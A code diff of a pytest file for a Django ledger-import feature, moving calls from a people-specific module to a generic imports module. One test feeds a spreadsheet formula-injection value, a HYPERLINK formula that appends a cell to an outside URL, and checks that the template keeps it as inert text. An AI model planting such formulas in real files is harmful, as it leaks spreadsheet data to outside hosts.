@@ -13,15 +13,17 @@ import xlwt
 from django.db import connection, connections
 from django.test.utils import CaptureQueriesContext
 
+from linli.imports import jobs
+from linli.imports import operations as imports
+from linli.imports.models import ImportBatch, ImportRow
+from linli.imports.operations import loading, sheets, uploading
 from linli.kernel.errors import Invalid, NotNow, NotPermitted, NotVisible
 from linli.kernel.fields import open_sealed
 from linli.kernel.jobs import give_up
 from linli.kernel.models import LogEntry, Progress
 from linli.people import contract as people
-from linli.people import jobs
-from linli.people.models import HouseholdMember, ImportBatch, ImportRow, Person, Residence
-from linli.people.operations import ledger
-from linli.people.operations.ledger import load, sheets, upload
+from linli.people.models import HouseholdMember, Person, Residence
+from linli.people.operations.ledger import LedgerImporter
 from linli.people.tests.conftest import World
 from linli.people.tests.factories import id_number, worker
 from linli.places import contract as places
@@ -43,16 +45,16 @@ def csv_file(rows: Sequence[Sequence[str]], titles: Sequence[str] = TITLES, enco
 
 
 def checked(world: World, content: bytes, name: str = "台账.csv") -> ImportBatch:
-    batch = ledger.upload_ledger(world.worker, world.place.id, name, content)
-    ledger.check_ledger(world.worker, batch.pk)
+    batch = imports.upload(world.worker, "people.ledger", world.place.id, name, content)
+    imports.check(world.worker, batch.pk)
     batch.refresh_from_db()
     return batch
 
 
 def loaded(world: World, content: bytes) -> ImportBatch:
     batch = checked(world, content)
-    ledger.start_loading(world.worker, batch.pk)
-    ledger.load_ledger(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     batch.refresh_from_db()
     return batch
 
@@ -100,11 +102,11 @@ def test_every_wrong_cell_is_named_by_row_and_column(world: World) -> None:
 def test_more_than_five_in_a_hundred_refuses_all_and_five_does_not(world: World) -> None:
     batch = checked(world, csv_file([*good(19), line(1, 证件号码="5")]))
     assert (batch.total, batch.bad, batch.state) == (20, 1, ImportBatch.State.READY)
-    ledger.drop_ledger(world.worker, batch.pk)
+    imports.drop(world.worker, batch.pk)
     batch = checked(world, csv_file([*good(18), line(1, 证件号码="5")]))
     assert batch.state == ImportBatch.State.REFUSED
     with pytest.raises(NotNow):
-        ledger.start_loading(world.worker, batch.pk)
+        imports.start_loading(world.worker, batch.pk)
 
 
 @pytest.mark.parametrize("area", ["NaN", "-nan", "Infinity", "-inf", "1e999999", "sNaN"])
@@ -117,59 +119,59 @@ def test_an_area_that_is_no_number_is_a_wrong_cell(world: World, area: str) -> N
 
 
 def test_a_check_that_always_fails_ends_with_an_answer_and_the_next_file_may_come(world: World) -> None:
-    batch = ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
+    batch = imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
     with pytest.raises(NotNow, match="还没办完"):
-        ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
+        imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
     stored = jobs.check.in_regions([world.place.id]).stored((batch.pk,), {})
     give_up(jobs.check.title, stored)
     batch.refresh_from_db()
     assert batch.state == ImportBatch.State.REFUSED
     assert batch.outcome == "没核对成，登记没有动"
-    assert Progress.objects.get(kind="people.ledger").message == batch.outcome
+    assert Progress.objects.get(kind="imports").message == batch.outcome
     assert checked(world, csv_file(good(3))).state == ImportBatch.State.READY
     give_up(jobs.check.title, stored)  # said twice, done once
-    assert ledger.drop_ledger(world.worker, batch.pk).state == ImportBatch.State.DROPPED
+    assert imports.drop(world.worker, batch.pk).state == ImportBatch.State.DROPPED
 
 
 def test_a_load_that_always_fails_can_be_gone_on_with_or_taken_back(world: World) -> None:
     batch = checked(world, csv_file(good(3)))
-    ledger.start_loading(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
     stored = jobs.load.in_regions([world.place.id]).stored((batch.pk,), {})
     for _ in range(2):  # said twice, done once
         give_up(jobs.load.title, stored)
         batch.refresh_from_db()
         assert batch.state == ImportBatch.State.STOPPED
-    assert Progress.objects.get(kind="people.ledger").message == "导入停在半路"
+    assert Progress.objects.get(kind="imports").message == "导入停在半路"
     with pytest.raises(NotNow):
-        ledger.drop_ledger(world.worker, batch.pk)
-    ledger.start_loading(world.worker, batch.pk)
-    ledger.load_ledger(world.worker, batch.pk)
+        imports.drop(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     batch.refresh_from_db()
     assert (batch.state, batch.loaded) == (ImportBatch.State.DONE, 3)
 
 
 def test_a_half_loaded_batch_is_taken_back_and_a_roll_back_that_fails_is_begun_again(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(load, "CHUNK", 1)
+    monkeypatch.setattr(loading, "CHUNK", 1)
     batch = checked(world, csv_file(good(3)))
-    ledger.start_loading(world.worker, batch.pk)
-    assert ledger.load_chunk(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    assert imports.load_chunk(world.worker, batch.pk)
     give_up(jobs.load.title, jobs.load.in_regions([world.place.id]).stored((batch.pk,), {}))
-    ledger.start_undoing(world.worker, batch.pk)
+    imports.start_undoing(world.worker, batch.pk)
     give_up(jobs.undo.title, jobs.undo.in_regions([world.place.id]).stored((batch.pk,), {}))
     batch.refresh_from_db()
     assert batch.state == ImportBatch.State.DONE
     assert Person.objects.standing().filter(batch_id=batch.pk).count() == 1
-    ledger.start_undoing(world.worker, batch.pk)
-    ledger.undo_ledger(world.worker, batch.pk)
+    imports.start_undoing(world.worker, batch.pk)
+    imports.undo(world.worker, batch.pk)
     batch.refresh_from_db()
     assert (batch.state, batch.undone) == (ImportBatch.State.UNDONE, 1)
     assert not Person.objects.standing().filter(batch_id=batch.pk).exists()
 
 
 def test_a_batch_under_check_can_be_given_up_and_the_check_leaves_it(world: World) -> None:
-    batch = ledger.upload_ledger(world.worker, world.place.id, "台账.csv", csv_file(good(3)))
-    ledger.drop_ledger(world.worker, batch.pk)
-    ledger.check_ledger(world.worker, batch.pk)
+    batch = imports.upload(world.worker, "people.ledger", world.place.id, "台账.csv", csv_file(good(3)))
+    imports.drop(world.worker, batch.pk)
+    imports.check(world.worker, batch.pk)
     batch.refresh_from_db()
     assert batch.state == ImportBatch.State.DROPPED
     assert not batch.rows.exists()
@@ -179,15 +181,15 @@ def test_two_files_of_one_community_are_not_taken_at_once(world: World) -> None:
     other = connections.create_connection("default")
     try:
         with other.cursor() as cursor:
-            cursor.execute("SELECT pg_advisory_lock(%s, hashtext(%s))", [upload.LOCK, str(world.place.id)])
+            cursor.execute("SELECT pg_advisory_lock(%s, hashtext(%s))", [uploading.LOCK, str(world.place.id)])
         with pytest.raises(NotNow, match="正在传"):
-            ledger.upload_ledger(world.worker, world.place.id, "二.csv", csv_file(good(3)))
+            imports.upload(world.worker, "people.ledger", world.place.id, "二.csv", csv_file(good(3)))
         with other.cursor() as cursor:
-            cursor.execute("SELECT pg_advisory_unlock(%s, hashtext(%s))", [upload.LOCK, str(world.place.id)])
+            cursor.execute("SELECT pg_advisory_unlock(%s, hashtext(%s))", [uploading.LOCK, str(world.place.id)])
     finally:
         other.close()
     assert not ImportBatch.objects.exists()
-    ledger.upload_ledger(world.worker, world.place.id, "二.csv", csv_file(good(3)))
+    imports.upload(world.worker, "people.ledger", world.place.id, "二.csv", csv_file(good(3)))
 
 
 def test_lower_case_x_and_full_width_are_taken(world: World) -> None:
@@ -242,17 +244,17 @@ def test_files_that_cannot_be_used_say_what_to_do(world: World) -> None:
     }
     for content, words in wrong.items():
         with pytest.raises(Invalid, match=words):
-            ledger.upload_ledger(world.worker, world.place.id, "x.csv", content)
+            imports.upload(world.worker, "people.ledger", world.place.id, "x.csv", content)
     with pytest.raises(Invalid, match="5,001 行，一次最多 5,000 行"):
-        ledger.upload_ledger(world.worker, world.place.id, "x.csv", csv_file([line(1)] * 5001))
+        imports.upload(world.worker, "people.ledger", world.place.id, "x.csv", csv_file([line(1)] * 5001))
 
 
 def test_only_the_keepers_of_the_community_may_upload(world: World) -> None:
     content = csv_file([line(1)])
     with pytest.raises(NotVisible):
-        ledger.upload_ledger(world.worker, world.other_id, "x.csv", content)
+        imports.upload(world.worker, "people.ledger", world.other_id, "x.csv", content)
     with pytest.raises(NotPermitted):
-        ledger.upload_ledger(worker(world.place.id, "grid_worker"), world.place.id, "x.csv", content)
+        imports.upload(worker(world.place.id, "grid_worker"), "people.ledger", world.place.id, "x.csv", content)
 
 
 def test_what_the_registry_knows_is_not_imported_twice(world: World) -> None:
@@ -277,8 +279,8 @@ def test_people_without_a_paper_get_a_number_and_twins_are_two(world: World) -> 
     rows = list(batch.rows.order_by("number"))
     assert "可能是同一个人" in rows[2].hints[-1]
     assert len(rows[1].hints) == 1
-    ledger.start_loading(world.worker, batch.pk)
-    ledger.load_ledger(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     numbers = set(Person.objects.values_list("temp_number", flat=True))
     assert len(numbers) == 3
     assert all(number.startswith("LS") for number in numbers)
@@ -287,21 +289,21 @@ def test_people_without_a_paper_get_a_number_and_twins_are_two(world: World) -> 
 def test_one_head_a_household(world: World) -> None:
     batch = checked(world, csv_file([line(1, 与户主关系="户主"), line(2, 与户主关系="户主"), *good(30)]))
     assert [(number, title) for number, title, _ in problems(batch)] == [(3, "与户主关系")]
-    ledger.start_loading(world.worker, batch.pk)
-    ledger.load_ledger(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     assert HouseholdMember.objects.count() == 1
 
 
 def test_a_load_that_was_killed_goes_on_where_it_stood(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(load, "CHUNK", 3)
+    monkeypatch.setattr(loading, "CHUNK", 3)
     batch = checked(world, csv_file(good(8)))
-    ledger.start_loading(world.worker, batch.pk)
-    assert ledger.load_chunk(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
+    assert imports.load_chunk(world.worker, batch.pk)
     assert Person.objects.count() == 3
-    ledger.load_ledger(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     batch.refresh_from_db()
     assert (batch.state, batch.loaded, Person.objects.count()) == (ImportBatch.State.DONE, 8, 8)
-    ledger.load_ledger(world.worker, batch.pk)
+    imports.load(world.worker, batch.pk)
     assert Person.objects.count() == 8
 
 
@@ -309,8 +311,8 @@ def test_a_batch_can_be_taken_back_and_imported_again(world: World) -> None:
     content = csv_file([*good(4), line(1, 与户主关系="户主"), line(2, 与户主关系="配偶"), line(3, 与房屋关系="产权人", 房屋状态="自住")])
     batch = loaded(world, content)
     assert Residence.objects.standing().count() == 7
-    ledger.start_undoing(world.worker, batch.pk)
-    ledger.undo_ledger(world.worker, batch.pk)
+    imports.start_undoing(world.worker, batch.pk)
+    imports.undo(world.worker, batch.pk)
     batch.refresh_from_db()
     assert (batch.state, batch.undone, batch.kept) == (ImportBatch.State.UNDONE, 7, 0)
     assert not Person.objects.standing().exists()
@@ -327,8 +329,8 @@ def test_what_changed_since_stays_and_is_named(world: World) -> None:
     house = places.find_house(world.place.building_id, "2", "1101")
     assert house is not None
     places.set_house_state(world.worker, house.id, "rented")
-    ledger.start_undoing(world.worker, batch.pk)
-    ledger.undo_ledger(world.worker, batch.pk)
+    imports.start_undoing(world.worker, batch.pk)
+    imports.undo(world.worker, batch.pk)
     batch.refresh_from_db()
     assert (batch.undone, batch.kept) == (2, 1)
     kept = batch.rows.get(state=ImportRow.State.KEPT)
@@ -343,8 +345,8 @@ def test_an_import_puts_a_house_back_as_it_was(world: World) -> None:
     house = places.house(world.place.rooms[0])
     assert house is not None
     assert house.state == "owner"
-    ledger.start_undoing(world.worker, batch.pk)
-    ledger.undo_ledger(world.worker, batch.pk)
+    imports.start_undoing(world.worker, batch.pk)
+    imports.undo(world.worker, batch.pk)
     house = places.house(world.place.rooms[0])
     assert house is not None
     assert (house.state, house.checked_on) == ("rented", date(2026, 1, 1))
@@ -357,18 +359,20 @@ def test_the_error_file_marks_cells_and_can_be_uploaded_again(world: World) -> N
     assert len(rows) == 2
     assert rows[1][-1] == 22
     assert "少了 17 位" in str(rows[1][-2])
-    ledger.drop_ledger(world.worker, batch.pk)
+    imports.drop(world.worker, batch.pk)
     assert checked(world, file, "要改的行.xlsx").total == 1
 
 
 def test_the_template_is_a_file_that_can_be_filled(world: World) -> None:
-    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sheets.template_sheet(["桂苑小区"])))
+    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sheets.template_sheet(LedgerImporter(), {"compound": ["桂苑小区"]})))
     assert book.get_sheet_by_index(0).to_python()[0][:4] == ["小区", "楼栋", "单元", "房号"]
 
 
 def test_a_compound_named_like_a_formula_stays_a_text_in_the_template(world: World) -> None:
     name = '=HYPERLINK("http://example.org/?"&A1,"点我")'
-    with zipfile.ZipFile(io.BytesIO(sheets.template_sheet([name, "http://example.org/", "桂苑小区"]))) as parts:
+    with zipfile.ZipFile(
+        io.BytesIO(sheets.template_sheet(LedgerImporter(), {"compound": [name, "http://example.org/", "桂苑小区"]}))
+    ) as parts:
         pages = [parts.read(part).decode() for part in parts.namelist() if part.startswith("xl/worksheets/")]
         texts = parts.read("xl/sharedStrings.xml").decode()
     assert not any("<f>" in page or "hyperlink" in page for page in pages)
@@ -389,7 +393,7 @@ def test_nothing_personal_stands_in_the_open(world: World) -> None:
 
 def test_the_number_of_queries_does_not_grow_with_the_chunk(world: World) -> None:
     batch = checked(world, csv_file(good(30)))
-    ledger.start_loading(world.worker, batch.pk)
+    imports.start_loading(world.worker, batch.pk)
     with CaptureQueriesContext(connection) as seen:
-        ledger.load_chunk(world.worker, batch.pk)
+        imports.load_chunk(world.worker, batch.pk)
     assert len(seen) < 60
